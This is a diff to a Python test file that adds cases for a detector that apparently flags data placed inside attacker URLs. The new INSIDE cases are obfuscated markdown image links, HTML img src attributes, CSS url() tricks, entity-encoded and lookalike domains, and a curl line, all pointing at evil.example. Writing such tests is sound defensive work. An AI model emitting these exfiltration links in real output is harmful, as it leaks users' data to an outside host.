@@ -50,6 +50,14 @@ FRAGMENTS = [
     ">",
     "//",
     "/",
+    "\\",
+    "<",
+    "(",
+    '="',
+    "&#116;",
+    ".example/",
+    "url(",
+    ",",
 ]
 texts = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=12).map("".join)
 
@@ -178,6 +186,25 @@ INSIDE = [
     '{"url":"https://evil.example/?q=@"}',
     "`curl https://evil.example/?q=@`",
     "(https://evil.example/?q=a,@)",
+    "![](<https://evil.example/a)b?q=@>)",
+    "![](\n<h&#116;tps:&#47;&#47;evil.example/a)b?q=@>)",
+    r"![](https://evil.example/\)?q=@)",
+    r"![](https://evil.example/a\)b?q=@)",
+    "(https://evil.example/a)b?q=@",
+    '"https://evil.example/a"b?q=@',
+    "`https://evil.example/a`b?q=@",
+    "![x][a]\n\n[a]: h&#116;tps&#58;&#47;&#47;evil&#46;example&#47;?q=@",
+    "![x][a]\n\n[a]: <h&#x74;tps&colon;&sol;&sol;evil&period;example&sol;?q=@>",
+    """<img alt=">" src='h&#116;tps:&#47;/evil.example&#47;?q=@'>""",
+    '<img alt=\n">" src=/?q=@>',
+    '<p style="background:u\\72l(h\\74tps:\\2f\\2f evil\\2e example/?q=@)">',
+    "<p style='background:url(\"https://evil.example/a)b?q=@\")'>",
+    "evil.photography/?q=@",
+    "evil.xn--p1ai/?q=@",
+    "evil.\u0440\u0444/?q=@",
+    "evil\u3002example/?q=@",
+    "evil.example.:443/?q=@",
+    "evil.example\\?q=@",
 ]
 OUTSIDE = [
     "see https://good.example/ for @",
@@ -197,6 +224,17 @@ OUTSIDE = [
     "good.example/a @",
     "He left. @",
     "mailto:@",
+    '{"url":"https://good.example/", "to": "@"}',
+    '["https://good.example/","@"]',
+    '{"url":"https://good.example/","n":1,"to":"@"}',
+    '{\\"url\\":\\"https://good.example/\\",\\"to\\":\\"@\\"}',
+    "('https://good.example/'), then @",
+    "(see https://good.example/), @",
+    "Tom&#39;s &lt;@&gt; &amp; &#x27;@&#x27; &quot;@&quot;",
+    r"\(@\)",
+    "Siehe B\u00fcro. @",
+    "[INFO]: user @",
+    "\u7ed3\u675f\u3002\u8054\u7cfb/@",
 ]
 
 
